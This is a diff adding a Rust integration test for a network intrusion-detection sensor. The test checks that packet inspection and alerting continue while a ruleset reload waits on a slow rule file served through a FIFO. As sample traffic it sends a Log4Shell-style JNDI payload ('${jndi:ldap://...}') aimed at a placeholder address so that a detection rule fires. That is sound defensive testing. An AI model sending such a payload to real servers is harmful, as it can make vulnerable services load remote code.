@@ -456,6 +456,87 @@ fn ips_mode_runs_a_ruleset_larger_than_the_kernel_automaton() {
     assert_no_vigil_programs();
 }
 
+/// Serves `text` to `times` readers of the FIFO at `path`, one after the
+/// other (each open, write, close), in the background.
+fn serve_fifo(path: &Path, text: &'static str, times: usize) -> thread::JoinHandle<()> {
+    let path = path.to_path_buf();
+    thread::spawn(move || {
+        for _ in 0..times {
+            // Opening for writing blocks until a reader opens it. The pause
+            // lets that reader see the end of the file and close it: a
+            // writer opening while it still reads would add to its text.
+            std::fs::write(&path, text).unwrap();
+            thread::sleep(Duration::from_millis(300));
+        }
+    })
+}
+
+/// A reload is built on a thread of its own: while it waits on a rule
+/// file (a FIFO nobody writes yet, standing in for a ruleset that takes
+/// long to compile), the sensor goes on reading packets and raising
+/// alerts; once the file arrives, the reload completes.
+#[test]
+fn a_reload_in_progress_does_not_stop_inspection() {
+    let _serial = serial();
+    let lab = LabGuard::up("vt-run-slow");
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("slow.rules");
+    let c_path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+    // SAFETY: mkfifo(3) on a path we own.
+    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
+    const EXTRA: &str = "alert http any any -> any any (msg:\"marker\"; http.header; content:\"fifo-marker\"; sid:7300001; rev:1;)\n";
+    // The loader reads each file twice (rules, then the ruleset hash).
+    let startup = serve_fifo(&fifo, EXTRA, 2);
+    let _server = start_server(&lab, &dir.path().join("server.log"));
+    let mut args: Vec<&str> = vec!["--rules", fifo.to_str().unwrap()];
+    let shipped = rules_dir();
+    args.extend(["--rules", &shipped]);
+    let run = start_run_with(&lab, dir.path(), &shipped, &args[..2]);
+    startup.join().unwrap();
+
+    // SAFETY: kill(2) on the sensor we started.
+    assert_eq!(unsafe { libc::kill(run.pid(), libc::SIGHUP) }, 0);
+    thread::sleep(Duration::from_millis(300));
+    let replies = keepalive(&lab, "45040", &["${jndi:ldap://198.51.100.7/a}"]);
+    assert_eq!(replies, ["ok"]);
+    let eve = dir.path().join("eve.json");
+    let alerted = (0..100).any(|_| {
+        thread::sleep(Duration::from_millis(50));
+        support::run::eve_alerts(&eve)
+            .iter()
+            .any(|a| a["alert"]["signature_id"] == 9000001)
+    });
+    assert!(alerted, "no alert while the reload was being built");
+    let status = || -> Value {
+        let text = std::fs::read_to_string(dir.path().join("stats.json")).unwrap_or_default();
+        serde_json::from_str(&text).unwrap_or(Value::Null)
+    };
+    assert_eq!(
+        status()["ruleset"]["reloads"],
+        0,
+        "the reload is still waiting"
+    );
+
+    let reload = serve_fifo(&fifo, EXTRA, 2);
+    reload.join().unwrap();
+    let reloaded = (0..100).any(|_| {
+        thread::sleep(Duration::from_millis(50));
+        status()["ruleset"]["reloads"] == 1
+    });
+    assert!(reloaded, "{:#}", status());
+    // The reloaded rules are in force.
+    assert_eq!(keepalive(&lab, "45041", &["fifo-marker"]), ["ok"]);
+    thread::sleep(Duration::from_millis(300));
+    stop(run);
+    assert!(
+        support::run::eve_alerts(&eve)
+            .iter()
+            .any(|a| a["alert"]["signature_id"] == 7300001)
+    );
+    drop(lab);
+    assert_no_vigil_programs();
+}
+
 /// IPS mode, address blocks: an address-only drop rule becomes a CIDR block
 /// in the kernel and the client's traffic stops both ways; a reload
 /// (SIGHUP) without the rule restores it.
